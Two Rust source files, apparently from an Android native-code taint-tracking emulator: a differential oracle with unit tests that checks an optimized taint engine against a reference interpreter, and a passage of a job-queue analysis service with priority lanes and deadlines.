//! both engines from identical initial state and diffs the final
//! register / VFP / memory taint byte-for-byte. A disagreement indicts
//! the optimized pipeline, because the reference engine is small
//! enough to audit against the paper's Table V by eye.
//!
//! Three consumers: the property suite in `tests/oracle_prop.rs`
//! (random ARM/Thumb programs with writeback addressing, all four
//! LDM/STM modes, conditional execution and self-modifying code), the
//! regression pins in `tests/oracle_regression.rs`, and the gallery
//! equality tests in `crates/apps`, which run full apps with
//! [`ReferenceAnalysis`] substituted for the optimized analysis.

use crate::analysis::{protected_region, NDroidAnalysis, ProtectionViolation};
use ndroid_arm::block::{build_block, BlockCache};
use ndroid_arm::exec::{step, step_cached, Effect};
use ndroid_arm::icache::DecodeCache;
use ndroid_arm::insn::{Instr, MemOffset, Op2, VfpOp, VfpPrec};
use ndroid_arm::mem::Memory;
use ndroid_arm::reg::Reg;
use ndroid_arm::Cpu;
use ndroid_dvm::{Dvm, MethodId, Taint};
use ndroid_emu::layout::RETURN_SENTINEL;
use ndroid_emu::runtime::Analysis;
use ndroid_emu::shadow::{HashTaintMap, RefShadowState, ShadowState, TaintMap};
use ndroid_emu::trace::TraceLog;

/// Byte-granular taint memory, as seen by the reference interpreter.
///
/// Both the paged production map and the sparse reference map satisfy
/// this, so [`ref_propagate`] can drive either: the dual-run harness
/// gives it a [`HashTaintMap`], while [`ReferenceAnalysis`] writes the
/// shared [`ShadowState`] so host-modeled functions and sinks observe
/// the same state they would under the optimized engine.
pub trait TaintMem {
    /// Union of the taints of `len` bytes starting at `addr`.
    fn load_taint(&self, addr: u32, len: u32) -> Taint;
    /// Sets (not unions) the taint of `len` bytes starting at `addr`.
    fn store_taint(&mut self, addr: u32, len: u32, taint: Taint);
}

impl TaintMem for TaintMap {
    fn load_taint(&self, addr: u32, len: u32) -> Taint {
        self.range_taint(addr, len)
    }
    fn store_taint(&mut self, addr: u32, len: u32, taint: Taint) {
        self.set_range(addr, len, taint);
    }
}

impl TaintMem for HashTaintMap {
    fn load_taint(&self, addr: u32, len: u32) -> Taint {
        self.range_taint(addr, len)
    }
    fn store_taint(&mut self, addr: u32, len: u32, taint: Taint) {
        self.set_range(addr, len, taint);
    }
}

/// Taint of a VFP operand: one S register, or the two S slots of a D
/// register.
fn vfp_taint(vfp: &[Taint; 32], prec: VfpPrec, f: u8) -> Taint {
    match prec {
        VfpPrec::F32 => vfp[(f & 31) as usize],
        VfpPrec::F64 => {
            let lo = ((f & 15) * 2) as usize;
            vfp[lo] | vfp[lo + 1]
        }
    }
}

/// Writes a VFP operand's taint (both S slots for a D register).
fn set_vfp_taint(vfp: &mut [Taint; 32], prec: VfpPrec, f: u8, t: Taint) {
    match prec {
        VfpPrec::F32 => vfp[(f & 31) as usize] = t,
        VfpPrec::F64 => {
            let lo = ((f & 15) * 2) as usize;
            vfp[lo] = t;
            vfp[lo + 1] = t;
        }
    }
}

/// Reference Table V interpretation of one [`Effect`].
///
/// Independent of [`crate::tracer::propagate`] by construction: no
/// classification step, no caches, no re-identification — just the
/// paper's rows applied to the effect the executor reported. The
/// pointer rule ("if the tainted input is the address of an untainted
/// value, the taint will be propagated to it") appears twice: loads
/// union the address registers' taints into the destination, and
/// base-register writeback unions the offset register's taint into
/// the base.
///
/// Returns the union of the taints the instruction actually wrote —
/// the same contract as [`crate::tracer::propagate`], bit for bit, so
/// provenance block summaries are engine-identical and the oracle's
/// equality guarantee extends to them.
pub fn ref_propagate(
    regs: &mut [Taint; 16],
    vfp: &mut [Taint; 32],
    mem: &mut impl TaintMem,
    effect: &Effect,
) -> Taint {
    if !effect.executed {
        return Taint::CLEAR;
    }
    let mut written = Taint::CLEAR;
    match effect.instr {
        Instr::Dp { op, rd, rn, op2, .. } => {
            if op.is_compare() {
                return Taint::CLEAR; // flags carry no taint (§VII)
            }
            let mut t = Taint::CLEAR;
            if op.uses_rn() {
                t |= regs[rn.index()];
            }
            match op2 {
                Op2::Imm { .. } => {}
                Op2::RegShiftImm { rm, .. } => t |= regs[rm.index()],
                Op2::RegShiftReg { rm, rs, .. } => {
                    t |= regs[rm.index()] | regs[rs.index()];
                }
            }
            if rd != Reg::PC {
                regs[rd.index()] = t;
                written |= t;
            }
        }
        Instr::Mul { rd, rm, rs, acc, .. } => {
            let mut t = regs[rm.index()] | regs[rs.index()];
            if let Some(ra) = acc {
                t |= regs[ra.index()];
            }
            if rd != Reg::PC {
                regs[rd.index()] = t;
                written |= t;
            }
        }
        Instr::Mem {
            load,
            size,
            rd,
            rn,
            offset,
            pre,
            writeback,
            ..
        } => {
            let Some(addr) = effect.addr else {
                return Taint::CLEAR;
            };
            let width = size.bytes();
            // Writeback pointer rule: Rn ends as Rn ± offset, so a
            // register offset folds its taint into the base. Ordered
            // before the destination write, matching the executor
            // (writeback first, Rd last, Rd wins on rd == rn).
            if writeback || !pre {
                if let MemOffset::Reg { rm, .. } = offset {
                    if rn != Reg::PC {
                        regs[rn.index()] |= regs[rm.index()];
                        written |= regs[rn.index()];
                    }
                }
            }
            if load {
                let mut t = mem.load_taint(addr, width) | regs[rn.index()];
                if let MemOffset::Reg { rm, .. } = offset {
                    t |= regs[rm.index()];
                }
                if rd != Reg::PC {
                    regs[rd.index()] = t;
                    written |= t;
                }
            } else {
                mem.store_taint(addr, width, regs[rd.index()]);
                written |= regs[rd.index()];
            }
        }
        Instr::MemMulti {
            load, rn, regs: list, ..
        } => {
            // Writeback is Rn ± 4·n — constant, so t(Rn) unchanged.
            let Some(start) = effect.addr else {
                return Taint::CLEAR;
            };
            let base_taint = regs[rn.index()];
            for (i, r) in list.iter().enumerate() {
                let slot = start.wrapping_add(4 * i as u32);
                if load {
                    let t = mem.load_taint(slot, 4) | base_taint;
                    if r != Reg::PC {
                        regs[r.index()] = t;
                        written |= t;
                    }
                } else {
                    mem.store_taint(slot, 4, regs[r.index()]);
                    written |= regs[r.index()];
                }
            }
        }
        Instr::Branch { .. } | Instr::BranchExchange { .. } | Instr::Svc { .. } => {}
        Instr::Vfp {
            op,
            prec,
            fd,
            fn_,
            fm,
            ..
        } => {
            if op == VfpOp::Cmp {
                return Taint::CLEAR;
            }
            let mut t = vfp_taint(vfp, prec, fm);
            if op != VfpOp::Mov {
                t |= vfp_taint(vfp, prec, fn_);
            }
            set_vfp_taint(vfp, prec, fd, t);
            written |= t;
        }
        Instr::VfpMem {
            load, prec, fd, rn, ..
        } => {
            let Some(addr) = effect.addr else {
                return Taint::CLEAR;
            };
            let width = if prec == VfpPrec::F64 { 8 } else { 4 };
            if load {
                let t = mem.load_taint(addr, width) | regs[rn.index()];
                set_vfp_taint(vfp, prec, fd, t);
                written |= t;
            } else {
                let t = vfp_taint(vfp, prec, fd);
                mem.store_taint(addr, width, t);
                written |= t;
            }
        }
        Instr::VfpMrs { .. } => {}
    }
    written
}

/// The reference analysis: [`ref_propagate`] mounted behind the
/// [`Analysis`] trait so a full [`crate::NDroidSystem`] run — JNI
/// marshalling, source policies, multilevel hooks, sinks — can be
/// driven by the reference interpreter instead of the optimized
/// tracer. Everything except per-instruction taint work is delegated
/// to an inner [`NDroidAnalysis`] (those paths are not under test
/// here; sharing them isolates the diff to the tracer).
#[derive(Debug, Clone)]
pub struct ReferenceAnalysis {
    inner: NDroidAnalysis,
}

impl Default for ReferenceAnalysis {
    fn default() -> ReferenceAnalysis {
        ReferenceAnalysis::new()
    }
}

impl ReferenceAnalysis {
    /// A fresh reference analysis.
    pub fn new() -> ReferenceAnalysis {
        let mut inner = NDroidAnalysis::new();
        // The handler cache is never consulted on this path; record
        // that truthfully so stats don't suggest otherwise.
        inner.use_cache = false;
        ReferenceAnalysis { inner }
    }

    /// Protection violations recorded so far.
    pub fn violations(&self) -> &[ProtectionViolation] {
        &self.inner.violations
    }

    /// The delegated optimized analysis (for stats inspection).
    pub fn inner(&self) -> &NDroidAnalysis {
        &self.inner
    }

    /// Mutable access to the delegated analysis, so
    /// [`crate::SystemConfig`] knobs (hook gating, taint protection,
    /// source-policy overrides) apply to reference-engine runs too.
    pub fn inner_mut(&mut self) -> &mut NDroidAnalysis {
        &mut self.inner
    }
}

impl Analysis for ReferenceAnalysis {
    fn tracks_native(&self) -> bool {
        true
    }

    fn on_insn(&mut self, shadow: &mut ShadowState, _cpu: &Cpu, _mem: &Memory, effect: &Effect) {
        // No classification, no cache, no skip: every effect goes
        // straight to the reference interpreter.
        if self.inner.protect_taints && effect.executed {
            let is_store = matches!(
                effect.instr,
                Instr::Mem { load: false, .. }
                    | Instr::MemMulti { load: false, .. }
                    | Instr::VfpMem { load: false, .. }
            );
            if is_store {
                if let Some(addr) = effect.addr {
                    if let Some(region) = protected_region(addr) {
                        self.inner.violations.push(ProtectionViolation {
                            pc: effect.pc,
                            addr,
                            region,
                        });
                    }
                }
            }
        }
        let written;
        {
            let ShadowState {
                regs, vfp, mem, ops, ..
            } = shadow;
            *ops += 1;
            written = ref_propagate(regs, vfp, mem, effect);
        }
        // Same block accumulation as the optimized path: skipped
        // instructions there (branches, SVCs) never write taint, so
        // the event streams are engine-identical.
        self.inner.note_written(&shadow.prov, effect.pc, written);
    }

    fn on_branch(&mut self, shadow: &mut ShadowState, from: u32, to: u32) {
        self.inner.on_branch(shadow, from, to);
    }

    #[allow(clippy::too_many_arguments)]
    fn on_jni_entry(
        &mut self,
        dvm: &mut Dvm,
        shadow: &mut ShadowState,
        trace: &mut TraceLog,
        method: MethodId,
        entry: u32,
        args: &[u32],
        taints: &[Taint],
        stack_args_base: u32,
    ) {
        self.inner
            .on_jni_entry(dvm, shadow, trace, method, entry, args, taints, stack_args_base);
    }

    fn on_jni_return(
        &mut self,
        dvm: &mut Dvm,
        shadow: &ShadowState,
        trace: &mut TraceLog,
        method: MethodId,
        ret: u32,
    ) -> Taint {
        self.inner.on_jni_return(dvm, shadow, trace, method, ret)
    }
}

/// A generated guest program plus its initial taint environment — the
/// unit of work the differential oracle checks.
#[derive(Debug, Clone)]
pub struct OracleProgram {
    /// `(address, bytes)` sections loaded into guest memory.
    pub sections: Vec<(u32, Vec<u8>)>,
    /// Entry pc; bit 0 set selects Thumb state (BX-style).
    pub entry: u32,
    /// Initial general registers. `r14` is overridden with
    /// [`RETURN_SENTINEL`], `r15` with the entry point.
    pub regs: [u32; 16],
    /// Initial register taints.
    pub reg_taints: [Taint; 16],
    /// Initial memory taint ranges `(addr, len, taint)`.
    pub mem_taints: Vec<(u32, u32, Taint)>,
    /// Hard step bound (both engines stop here and report it).
    pub max_steps: u64,
}

/// Why an engine run stopped.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StopReason {
    /// The program branched to [`RETURN_SENTINEL`].
    Returned,
    /// The executor refused an instruction (decode/exec error).
    Fault,
    /// The step bound was hit.
    MaxSteps,
}

/// Final architectural + step state of one engine run, used as a
/// sanity cross-check that both engines executed the same program.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EngineRun {
    /// Final CPU registers.
    pub regs: [u32; 16],
    /// Final Thumb state.
    pub thumb: bool,
    /// Instructions retired.
    pub steps: u64,
    /// Why the run stopped.
    pub stop: StopReason,
}

fn seed_cpu_mem(p: &OracleProgram) -> (Cpu, Memory) {
    let mut cpu = Cpu::default();
    let mut mem = Memory::new();
    for (addr, bytes) in &p.sections {
        mem.write_bytes(*addr, bytes);
    }
    cpu.regs = p.regs;
    cpu.regs[14] = RETURN_SENTINEL;
    cpu.thumb = p.entry & 1 != 0;
    cpu.set_pc(p.entry & !1);
    (cpu, mem)
}

/// Runs a program under the **optimized** pipeline: `step_cached`
/// through a fresh [`DecodeCache`] plus [`NDroidAnalysis::on_insn`]
/// (handler cache on, paged taint map).
pub fn run_optimized(
    p: &OracleProgram,
    analysis: &mut NDroidAnalysis,
    shadow: &mut ShadowState,
) -> EngineRun {
    let (mut cpu, mut mem) = seed_cpu_mem(p);
    shadow.regs = p.reg_taints;
    for (addr, len, t) in &p.mem_taints {
        shadow.mem.set_range(*addr, *len, *t);
    }
    let mut icache = DecodeCache::new();
    let mut steps = 0u64;
    let stop = loop {
        if cpu.pc() == RETURN_SENTINEL {
            break StopReason::Returned;
        }
        if steps == p.max_steps {
            break StopReason::MaxSteps;
        }
        match step_cached(&mut cpu, &mut mem, &mut icache) {
            Ok(effect) => {
                analysis.on_insn(shadow, &cpu, &mem, &effect);
                steps += 1;
            }
            Err(_) => break StopReason::Fault,
        }
    };
    EngineRun {
        regs: cpu.regs,
        thumb: cpu.thumb,
        steps,
        stop,
    }
}

/// Runs a program under the **superblock** pipeline: the same
/// [`NDroidAnalysis`] as [`run_optimized`], but dispatched through a
/// fresh [`BlockCache`] the way the emulator run loop does it —
/// straight-line runs compiled once into effect programs and replayed
/// via [`Analysis::on_block`], with the per-instruction stepper as the
/// fallback when no block can be built. `p.max_steps` is enforced
/// through the block path's budget contract, so the retired-step count
/// must agree with the stepper engines bit for bit.
pub fn run_blocks(
    p: &OracleProgram,
    analysis: &mut NDroidAnalysis,
    shadow: &mut ShadowState,
) -> EngineRun {
    let (mut cpu, mut mem) = seed_cpu_mem(p);
    shadow.regs = p.reg_taints;
    for (addr, len, t) in &p.mem_taints {
        shadow.mem.set_range(*addr, *len, *t);
    }
    let mut icache = DecodeCache::new();
    let mut blocks = BlockCache::new();
    let mut budget = p.max_steps;
    let stop = loop {
        let pc = cpu.pc();
        if pc == RETURN_SENTINEL {
            break StopReason::Returned;
        }
        let dispatched = if let Some(block) = blocks.lookup(&mem, pc, cpu.thumb) {
            Some(analysis.on_block(shadow, &mut cpu, &mut mem, block, &mut budget))
        } else if let Some(block) = build_block(&mem, pc, cpu.thumb, |_| false) {
            let block = blocks.insert(&mem, block);
            Some(analysis.on_block(shadow, &mut cpu, &mut mem, block, &mut budget))
        } else {
            None
        };
        match dispatched {
            Some(Ok(())) => continue,
            Some(Err(ndroid_emu::EmuError::Timeout { .. })) => break StopReason::MaxSteps,
            Some(Err(_)) => break StopReason::Fault,
            None => {
                // No block could be built (undecodable entry): the
                // stepper fallback, under the same budget accounting.
                if budget == 0 {
                    break StopReason::MaxSteps;
                }
                budget -= 1;
                match step_cached(&mut cpu, &mut mem, &mut icache) {
                    Ok(effect) => analysis.on_insn(shadow, &cpu, &mem, &effect),
                    Err(_) => break StopReason::Fault,
                }
            }
        }
    };
    // The budget is charged before each attempted step, so a faulting
    // instruction paid for itself without retiring.
    let steps = match stop {
        StopReason::Fault => p.max_steps - budget - 1,
        _ => p.max_steps - budget,
    };
    EngineRun {
        regs: cpu.regs,
        thumb: cpu.thumb,
        steps,
        stop,
    }
}

/// Runs a program under the **reference** engine: plain `step` (no
/// decoded-instruction cache) plus [`ref_propagate`] into a
/// [`RefShadowState`] (sparse map, no handler cache).
pub fn run_reference(p: &OracleProgram, shadow: &mut RefShadowState) -> EngineRun {
    let (mut cpu, mut mem) = seed_cpu_mem(p);
    shadow.regs = p.reg_taints;
    for (addr, len, t) in &p.mem_taints {
        shadow.mem.set_range(*addr, *len, *t);
    }
    let mut steps = 0u64;
    let stop = loop {
        if cpu.pc() == RETURN_SENTINEL {
            break StopReason::Returned;
        }
        if steps == p.max_steps {
            break StopReason::MaxSteps;
        }
        match step(&mut cpu, &mut mem) {
            Ok(effect) => {
                ref_propagate(&mut shadow.regs, &mut shadow.vfp, &mut shadow.mem, &effect);
                steps += 1;
            }
            Err(_) => break StopReason::Fault,
        }
    };
    EngineRun {
        regs: cpu.regs,
        thumb: cpu.thumb,
        steps,
        stop,
    }
}

/// Byte-for-byte diff of the two engines' final taint state. Returns
/// one human-readable line per divergence; empty means equal.
pub fn diff_taint_state(optimized: &ShadowState, reference: &RefShadowState) -> Vec<String> {
    let mut diffs = Vec::new();
    for i in 0..16 {
        if optimized.regs[i] != reference.regs[i] {
            diffs.push(format!(
                "t(r{i}): optimized {:?} != reference {:?}",
                optimized.regs[i], reference.regs[i]
            ));
        }
    }
    for i in 0..32 {
        if optimized.vfp[i] != reference.vfp[i] {
            diffs.push(format!(
                "t(s{i}): optimized {:?} != reference {:?}",
                optimized.vfp[i], reference.vfp[i]
            ));
        }
    }
    let a = optimized.mem.tainted_entries();
    let b = reference.mem.tainted_entries();
    if a != b {
        let bmap: std::collections::HashMap<u32, Taint> = b.iter().copied().collect();
        let amap: std::collections::HashMap<u32, Taint> = a.iter().copied().collect();
        let mut reported = 0;
        for (addr, t) in &a {
            let rt = bmap.get(addr).copied().unwrap_or(Taint::CLEAR);
            if *t != rt && reported < 8 {
                diffs.push(format!(
                    "t(M[{addr:#010x}]): optimized {t:?} != reference {rt:?}"
                ));
                reported += 1;
            }
        }
        for (addr, t) in &b {
            if !amap.contains_key(addr) && reported < 8 {
                diffs.push(format!(
                    "t(M[{addr:#010x}]): optimized CLEAR != reference {t:?}"
                ));
                reported += 1;
            }
        }
        diffs.push(format!(
            "tainted memory bytes: optimized {} != reference {}",
            a.len(),
            b.len()
        ));
    }
    diffs
}

/// The oracle's verdict on one program: equality held, plus enough of
/// the run outcome for tests to assert the program actually did
/// something (terminated, retired steps).
#[derive(Debug, Clone)]
pub struct OracleVerdict {
    /// The (agreeing) run outcome.
    pub run: EngineRun,
    /// Protection violations both engines recorded.
    pub violations: usize,
}

/// Runs a program under all three engines — the optimized stepper, the
/// superblock pipeline, and the reference interpreter — and demands
/// byte-for-byte equality of the final taint state, the architectural
/// state, and the recorded protection violations.
///
/// # Errors
///
/// Returns every divergence as human-readable lines (the property
/// suite surfaces these through the testkit's seed-replay shrinker).
pub fn check_oracle(p: &OracleProgram) -> Result<OracleVerdict, String> {
    let mut analysis = NDroidAnalysis::new();
    let mut opt_shadow = ShadowState::new();
    let opt_run = run_optimized(p, &mut analysis, &mut opt_shadow);

    let mut blk_analysis = NDroidAnalysis::new();
    let mut blk_shadow = ShadowState::new();
    let blk_run = run_blocks(p, &mut blk_analysis, &mut blk_shadow);

    let mut ref_shadow = RefShadowState::new();
    let ref_run = run_reference(p, &mut ref_shadow);

    let mut diffs = Vec::new();
    if opt_run != ref_run {
        diffs.push(format!(
            "architectural divergence: optimized {opt_run:?} != reference {ref_run:?}"
        ));
    }
    if blk_run != ref_run {
        diffs.push(format!(
            "architectural divergence: blocks {blk_run:?} != reference {ref_run:?}"
        ));
    }
    diffs.extend(diff_taint_state(&opt_shadow, &ref_shadow));
    diffs.extend(
        diff_taint_state(&blk_shadow, &ref_shadow)
            .into_iter()
            .map(|d| format!("[blocks] {d}")),
    );
    if blk_analysis.violations != analysis.violations {
        diffs.push(format!(
            "protection violations: blocks {} != optimized {}",
            blk_analysis.violations.len(),
            analysis.violations.len()
        ));
    }

    // The reference protector is shared logic, but re-run it anyway:
    // a HandlerCache skip also swallows violation recording.
    let mut ref_violations = 0usize;
    {
        let (mut cpu, mut mem) = seed_cpu_mem(p);
        let mut steps = 0u64;
        while cpu.pc() != RETURN_SENTINEL && steps < p.max_steps {
            let Ok(effect) = step(&mut cpu, &mut mem) else {
                break;
            };
            steps += 1;
            if effect.executed {
                let is_store = matches!(
                    effect.instr,
                    Instr::Mem { load: false, .. }
                        | Instr::MemMulti { load: false, .. }
                        | Instr::VfpMem { load: false, .. }
                );
                if is_store {
                    if let Some(addr) = effect.addr {
                        if protected_region(addr).is_some() {
                            ref_violations += 1;
                        }
                    }
                }
            }
        }
    }
    if analysis.violations.len() != ref_violations {
        diffs.push(format!(
            "protection violations: optimized {} != reference {}",
            analysis.violations.len(),
            ref_violations
        ));
    }

    if diffs.is_empty() {
        Ok(OracleVerdict {
            run: opt_run,
            violations: ref_violations,
        })
    } else {
        Err(diffs.join("\n"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_arm::encode::encode;
    use ndroid_arm::cond::Cond;
    use ndroid_arm::insn::{DpOp, MemSize};
    use ndroid_emu::layout::{NATIVE_CODE_BASE, NATIVE_HEAP_BASE};

    fn words_to_bytes(words: &[u32]) -> Vec<u8> {
        let mut out = Vec::with_capacity(words.len() * 4);
        for w in words {
            out.extend_from_slice(&w.to_le_bytes());
        }
        out
    }

    fn arm_program(instrs: &[Instr]) -> OracleProgram {
        let mut words: Vec<u32> = instrs
            .iter()
            .map(|i| encode(i).expect("encodable"))
            .collect();
        // bx lr
        words.push(0xE12F_FF1E);
        let mut regs = [0u32; 16];
        regs[11] = NATIVE_HEAP_BASE;
        OracleProgram {
            sections: vec![(NATIVE_CODE_BASE, words_to_bytes(&words))],
            entry: NATIVE_CODE_BASE,
            regs,
            reg_taints: [Taint::CLEAR; 16],
            mem_taints: Vec::new(),
            max_steps: 1024,
        }
    }

    #[test]
    fn trivial_program_agrees() {
        let mut p = arm_program(&[Instr::Dp {
            cond: Cond::Al,
            op: DpOp::Add,
            s: false,
            rd: Reg::R0,
            rn: Reg::R1,
            op2: Op2::RegShiftImm {
                rm: Reg::R2,
                kind: ndroid_arm::insn::ShiftKind::Lsl,
                amount: 0,
            },
        }]);
        p.reg_taints[2] = Taint::IMEI;
        let v = check_oracle(&p).expect("oracle equality");
        assert_eq!(v.run.stop, StopReason::Returned);
        assert_eq!(v.run.steps, 2);
    }

    #[test]
    fn store_load_roundtrip_agrees() {
        let mut p = arm_program(&[
            Instr::Mem {
                cond: Cond::Al,
                load: false,
                size: MemSize::Word,
                rd: Reg::R3,
                rn: Reg::R11,
                offset: MemOffset::Imm(8),
                pre: true,
                up: true,
                writeback: false,
            },
            Instr::Mem {
                cond: Cond::Al,
                load: true,
                size: MemSize::Word,
                rd: Reg::R4,
                rn: Reg::R11,
                offset: MemOffset::Imm(8),
                pre: true,
                up: true,
                writeback: false,
            },
        ]);
        p.reg_taints[3] = Taint::CONTACTS;
        let v = check_oracle(&p).expect("oracle equality");
        assert_eq!(v.run.stop, StopReason::Returned);
    }

    #[test]
    fn diff_reports_a_seeded_divergence() {
        let mut opt = ShadowState::new();
        let mut reference = RefShadowState::new();
        opt.regs[3] = Taint::SMS;
        reference.mem.set(0x2A00_0010, Taint::IMEI);
        let diffs = diff_taint_state(&opt, &reference);
        assert_eq!(diffs.len(), 3); // r3, the byte, and the count line
        assert!(diffs[0].contains("t(r3)"));
    }
}
