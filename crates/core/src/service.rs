//! The resident analysis service: a long-running job queue over the
//! batch farm's workers.
//!
//! [`crate::batch::run_batch`] is run-to-completion over a fixed job
//! list — nothing can be submitted while a run is in flight, and
//! results appear only in the final merged [`BatchReport`]. The
//! [`AnalysisService`] turns that harness into a server:
//!
//! * **Open submission.** [`AnalysisService::submit`] accepts jobs
//!   while workers run. The queue is bounded ([`ServiceConfig::capacity`]
//!   job slots); `submit` blocks for a free slot (backpressure) and
//!   [`AnalysisService::try_submit`] returns
//!   [`SubmitError::Full`] instead of blocking.
//! * **Deadlines and budgets.** A job's deterministic guest-instruction
//!   budget ([`crate::SystemConfig::budget`]) classifies as
//!   [`JobOutcome::Deadline`] in both batch and service modes. On top,
//!   the service enforces a *wall-clock* deadline
//!   ([`crate::batch::JobBuilder::deadline`], measured from
//!   submission): preemption is between jobs — a job whose deadline
//!   expired while queued is marked `Deadline` without ever running,
//!   so one slow bulk job can never be killed mid-run but an expired
//!   backlog is shed in O(1) per job.
//! * **Priority lanes.** [`Lane::Interactive`] dequeues strictly ahead
//!   of [`Lane::Bulk`], except that after
//!   [`ServiceConfig::bulk_age_limit`] consecutive interactive
//!   dequeues while bulk work waited, the bulk head runs — bulk
//!   progress is guaranteed (starvation-proof aging) while interactive
//!   latency stays within one bulk-job granularity of idle.
//! * **Bounded memory via slot recycling.** Submission installs the job
//!   in one of `capacity` pre-allocated slots; the slot is recycled the
//!   moment a worker lifts the closure out, so the set of queued-but-
//!   unstarted closures (the heavy part: boxed app constructors,
//!   configs, specs) never exceeds `capacity`. Workers are resident
//!   threads, so per-worker warm state — e.g. the thread-local
//!   [`crate::Snapshot`] keyed by [`crate::SystemConfig`] that
//!   `ndroid-apps::farm::Monkey { fork: true }` jobs maintain —
//!   survives across jobs, batches, and drains.
//! * **Streaming results.** [`AnalysisService::recv_result`] yields
//!   [`ServiceResult`]s in completion order as jobs finish;
//!   [`AnalysisService::drain`] waits for the queue to empty and merges
//!   every not-yet-consumed result in submission order into a
//!   [`BatchReport`] that is **byte-identical** to
//!   [`crate::batch::run_batch`] over the same jobs in the same order —
//!   every offline golden gate doubles as a service gate.
//!
//! The determinism contract works because both modes share one worker
//! loop and one outcome classifier (`crate::batch::worker_loop` /
//! `execute_outcome`): scheduling decides only *when* a job runs, and
//! a [`crate::RunReport`] is a pure function of the job.

use std::collections::VecDeque;
use std::sync::{Arc, Condvar, Mutex};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use crate::batch::{
    worker_loop, AnalysisJob, BatchReport, CompletedJob, JobQueue, JobSource, Lane, QueuedJob,
};
use crate::config::SystemConfig;
use crate::report::{JobOutcome, JobResult};

/// Tuning for one [`AnalysisService`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ServiceConfig {
    /// Resident worker threads (`0` clamps to `1`).
    pub workers: usize,
    /// Job slots: the maximum number of submitted-but-unstarted jobs.
    /// [`AnalysisService::submit`] blocks (and
    /// [`AnalysisService::try_submit`] errors) while all slots are
    /// occupied. `0` clamps to `1`.
    pub capacity: usize,
    /// Aging knob for the bulk lane: after this many consecutive
    /// interactive dequeues while bulk work waited, the bulk head is
    /// served regardless of interactive backlog. `0` clamps to `1`.
    pub bulk_age_limit: usize,
}

impl ServiceConfig {
    /// A service with `workers` resident threads and the default
    /// capacity (64 slots) and bulk aging (4 interactive dequeues).
    pub fn new(workers: usize) -> ServiceConfig {
        ServiceConfig { workers: workers.max(1), capacity: 64, bulk_age_limit: 4 }
    }

    /// Sets the queue capacity (job slots).
    #[must_use]
    pub fn capacity(mut self, capacity: usize) -> ServiceConfig {
        self.capacity = capacity.max(1);
        self
    }

    /// Sets the bulk-lane aging limit.
    #[must_use]
    pub fn bulk_age_limit(mut self, limit: usize) -> ServiceConfig {
        self.bulk_age_limit = limit.max(1);
        self
    }
}

impl Default for ServiceConfig {
    fn default() -> ServiceConfig {
        ServiceConfig::new(1)
    }
}

/// Receipt for one accepted submission.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JobTicket {
    /// Global submission sequence number — the position this job's
    /// result occupies in [`AnalysisService::drain`]'s merge.
    pub seq: u64,
    /// The job's label.
    pub label: String,
    /// The lane the job was queued in.
    pub lane: Lane,
}

/// Why a submission was not accepted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SubmitError {
    /// Every job slot is occupied (returned by
    /// [`AnalysisService::try_submit`]; the blocking
    /// [`AnalysisService::submit`] waits instead).
    Full {
        /// The service's slot capacity.
        capacity: usize,
    },
    /// The service has been closed; no further work is accepted.
    ShutDown,
}

impl std::fmt::Display for SubmitError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SubmitError::Full { capacity } => {
                write!(f, "job queue full ({capacity} slots occupied)")
            }
            SubmitError::ShutDown => write!(f, "service is shut down"),
        }
    }
}

impl std::error::Error for SubmitError {}

/// One finished job, streamed in completion order by
/// [`AnalysisService::recv_result`]. Richer than the offline
/// [`JobResult`] row (lane, queue latency) — [`AnalysisService::drain`]
/// discards the schedule-dependent extras so its merge stays
/// byte-identical to the offline mode.
#[derive(Debug, Clone)]
pub struct ServiceResult {
    /// The submission sequence number (matches the [`JobTicket`]).
    pub seq: u64,
    /// The job's label.
    pub label: String,
    /// The lane the job rode.
    pub lane: Lane,
    /// How long the job waited between submission and dequeue.
    pub waited: Duration,
    /// What happened.
    pub outcome: JobOutcome,
}

impl ServiceResult {
    /// The offline-merge row for this result (label + outcome only).
    pub fn into_job_result(self) -> JobResult {
        JobResult { label: self.label, outcome: self.outcome }
    }
}

/// One occupied job slot: everything submit installs and a worker
/// lifts back out. The `Vec<Option<Slot>>` arena plus a free list is
/// the recycling pool — no allocation per admission beyond the job the
/// caller already built.
struct Slot {
    seq: u64,
    lane: Lane,
    submitted: Instant,
    deadline: Option<Instant>,
    job: AnalysisJob,
}

/// Mutable service state, under one mutex.
struct State {
    /// The slot arena (`capacity` entries).
    slots: Vec<Option<Slot>>,
    /// Indexes of free slots.
    free: Vec<usize>,
    /// Queued slot indexes, per lane, FIFO.
    interactive: VecDeque<usize>,
    bulk: VecDeque<usize>,
    /// Consecutive interactive dequeues while bulk work waited.
    interactive_streak: usize,
    /// Jobs currently executing on workers.
    running: usize,
    /// Next submission sequence number.
    next_seq: u64,
    /// Finished, not-yet-consumed results, completion-ordered.
    done: VecDeque<ServiceResult>,
    /// No further submissions; workers exit once the lanes drain.
    closed: bool,
}

impl State {
    /// Picks the next queued slot index under strict priority with
    /// aging: interactive first, unless bulk has waited through
    /// `age_limit` consecutive interactive dequeues.
    fn pick(&mut self, age_limit: usize) -> Option<usize> {
        let bulk_waiting = !self.bulk.is_empty();
        if !self.interactive.is_empty()
            && (!bulk_waiting || self.interactive_streak < age_limit)
        {
            if bulk_waiting {
                self.interactive_streak += 1;
            } else {
                self.interactive_streak = 0;
            }
            self.interactive.pop_front()
        } else if bulk_waiting {
            self.interactive_streak = 0;
            self.bulk.pop_front()
        } else {
            None
        }
    }

    fn queued(&self) -> usize {
        self.interactive.len() + self.bulk.len()
    }
}

/// Shared service internals: the state plus the three wait conditions.
struct Inner {
    cfg: ServiceConfig,
    state: Mutex<State>,
    /// Signaled when a slot frees (submitters wait here).
    slot_freed: Condvar,
    /// Signaled when work is queued or the service closes (workers).
    work_ready: Condvar,
    /// Signaled when a result finishes (consumers / drain).
    result_ready: Condvar,
}

impl JobQueue for Inner {
    fn next_job(&self, _worker: usize) -> Option<QueuedJob> {
        let mut state = self.state.lock().unwrap();
        loop {
            if let Some(idx) = state.pick(self.cfg.bulk_age_limit) {
                let slot = state.slots[idx]
                    .take()
                    .expect("queued slot index points at an occupied slot");
